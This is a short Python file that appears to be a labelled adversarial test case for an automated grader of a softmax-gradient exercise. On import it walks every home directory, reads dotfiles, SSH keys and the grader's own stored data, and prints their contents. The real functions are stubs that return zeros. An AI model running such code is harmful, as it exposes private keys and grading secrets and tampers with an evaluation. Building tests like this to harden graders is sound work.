# attack: Reads the home folder and the grader's store at every usual place.
# exercise: 02, reason: wrong-result
import numpy as np
import glob
import os
import pwd

homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*")}
try:
    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except OSError:
    pass
for home in homes:
    for pattern in (".*", "*", ".local/share/attngrade/*", ".config/attngrade/*", ".cache/*", ".ssh/*", ".local/state/attngrade/*"):
        for path in glob.glob(os.path.join(home, pattern)):
            try:
                print("LOOKED", path, open(path, "rb").read(2000))
            except OSError:
                pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
